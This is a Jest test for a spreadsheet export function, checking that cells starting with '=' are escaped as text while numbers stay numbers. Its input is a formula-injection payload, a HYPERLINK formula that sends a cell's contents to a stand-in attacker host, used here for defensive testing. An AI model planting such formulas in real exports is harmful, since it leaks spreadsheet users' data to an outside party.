/**
 * fflate's browser build is ESM only; under jest (CommonJS) its Node build is taken instead.
 * @jest-environment-options {"customExportConditions": ["node", "require", "default"]}
 */
import { readXlsxBack } from '@condo/shared/testing';
import { cardToXls } from './xls';

describe('cardToXls', () => {
  it('writes a name that a spreadsheet would run as a formula as text; numbers stay numbers', async () => {
    const { text, written } = await readXlsxBack(
      await cardToXls([
        ['Visitors by gate'],
        ['Name', 'Details', 'COUNT'],
        ['=HYPERLINK("http://attacker.example/?x="&A2,"Details")', '-', -3],
      ]),
    );
    expect(written.map((row) => row.cells)).toEqual([
      ['Visitors by gate'],
      ['Name', 'Details', 'COUNT'],
      ['\'=HYPERLINK("http://attacker.example/?x="&A2,"Details")', '-', -3],
    ]);
    expect(text('xl/worksheets/sheet1.xml')).not.toContain('<f>');
    expect(text('xl/workbook.xml')).toContain('<sheet name="Analytics"');
  });
});
